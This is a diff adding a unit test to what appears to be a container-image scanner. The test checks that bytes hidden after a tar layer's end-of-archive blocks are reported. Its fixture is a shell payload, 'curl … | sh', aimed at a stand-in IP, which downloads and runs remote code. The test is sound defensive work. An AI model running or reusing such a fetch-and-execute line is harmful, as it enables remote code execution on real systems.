@@ -124,6 +124,45 @@ static void test_clean_image_passes(void **state)
     tu_tar_free(l0);
 }
 
+/* Bytes after the tar's end-of-archive blocks: every extractor skips them,
+ * yet they ship; the layer's digests cover them, so only the tar's own
+ * structure tells. */
+static void test_bytes_after_the_tar_end_are_reported(void **state)
+{
+    (void)state;
+    struct tu_tar *l0 = tu_tar_new();
+    tu_tar_add(l0, 'f', "app/run", 0755, "#!/bin/sh\necho hi\n", 18, NULL);
+    size_t len;
+    const uint8_t *b = tu_tar_bytes(l0, &len);
+    static const char payload[] = "#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n";
+    uint8_t *blob = malloc(len + sizeof(payload));
+    memcpy(blob, b, len);
+    memcpy(blob + len, payload, sizeof(payload) - 1);
+    struct tu_layer ls[1] = { { .blob = blob, .len = len + sizeof(payload) - 1 } };
+    char *dir = tu_oci_layout("{\"architecture\":\"amd64\",\"os\":\"linux\",\"config\":{\"User\":\"10001\"}}",
+                              ls, 1);
+    for (unsigned threads = 1; threads <= 2; threads++) {
+        struct ivet_err err = IVET_ERR_INIT;
+        struct ivet_report *r = scan_dir(dir, threads, &err);
+        if (!r)
+            fail_msg("scan failed: %s", ivet_err_msg(&err));
+        const struct ivet_finding *f = find(r, "CONF-TAR-TRAILING-DATA", NULL);
+        assert_non_null(f);
+        assert_int_equal(f->layer, 0);
+        assert_int_equal(f->severity, IVET_SEV_MEDIUM);
+        char want[96];
+        snprintf(want, sizeof(want), "%zu bytes after the end-of-archive blocks, %zu of them not zero",
+                 sizeof(payload) - 1, sizeof(payload) - 1);
+        if (!f->evidence || !strstr(f->evidence, want))
+            fail_msg("evidence '%s', expected '%s'", f->evidence ? f->evidence : "", want);
+        ivet_report_free(r);
+    }
+    tu_rm_rf(dir);
+    free(dir);
+    free(blob);
+    tu_tar_free(l0);
+}
+
 static void test_altered_layer_fails_whole_scan(void **state)
 {
     (void)state;
@@ -259,6 +298,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(test_config_and_hidden_files),
         cmocka_unit_test(test_clean_image_passes),
+        cmocka_unit_test(test_bytes_after_the_tar_end_are_reported),
         cmocka_unit_test(test_altered_layer_fails_whole_scan),
         cmocka_unit_test(test_json_report_shape),
         cmocka_unit_test(test_image_wide_limits),
